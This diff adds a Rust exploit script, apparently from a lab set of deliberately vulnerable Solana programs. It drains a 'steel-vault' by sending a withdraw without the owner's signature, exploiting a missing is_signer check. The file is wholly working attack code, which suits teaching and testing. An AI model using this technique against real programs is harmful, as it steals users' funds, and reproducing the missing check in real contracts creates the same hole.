@@ -0,0 +1,43 @@
+//! steel-vault: drain the Steel port of the missing-signer vault.
+//!
+//! `withdraw` validates the vault against `owner_info` with chained checks
+//! but leaves out `owner_info.is_signer()?`, so the victim's address without
+//! their signature passes.
+
+use anchor_client::solana_sdk::signature::Signer;
+use exploits::{without_signature, Exploit, ExploitResult};
+use steel_vault_api::prelude::*;
+
+const DEPOSIT: u64 = 1_000_000_000;
+
+fn main() -> ExploitResult<()> {
+    let exploit = Exploit::from_args()?;
+
+    let victim = exploit.new_victim()?;
+    exploit.fund(&victim.pubkey(), DEPOSIT)?;
+    exploit.send(
+        vec![
+            steel_vault_api::sdk::initialize(victim.pubkey()),
+            steel_vault_api::sdk::deposit(victim.pubkey(), DEPOSIT),
+        ],
+        &[&victim],
+    )?;
+    let (vault, _) = vault_pda(victim.pubkey());
+    println!("victim {} deposited {DEPOSIT} lamports into {vault}", victim.pubkey());
+
+    let attacker = exploit.payer.pubkey();
+    let before = exploit.lamports(&attacker)?;
+    exploit.send(
+        vec![without_signature(
+            steel_vault_api::sdk::withdraw(victim.pubkey(), attacker, DEPOSIT),
+            &victim.pubkey(),
+        )],
+        &[],
+    )?;
+    println!(
+        "attacker gained {} lamports after fees, vault holds {}",
+        exploit.lamports(&attacker)?.saturating_sub(before),
+        exploit.lamports(&vault)?
+    );
+    Ok(())
+}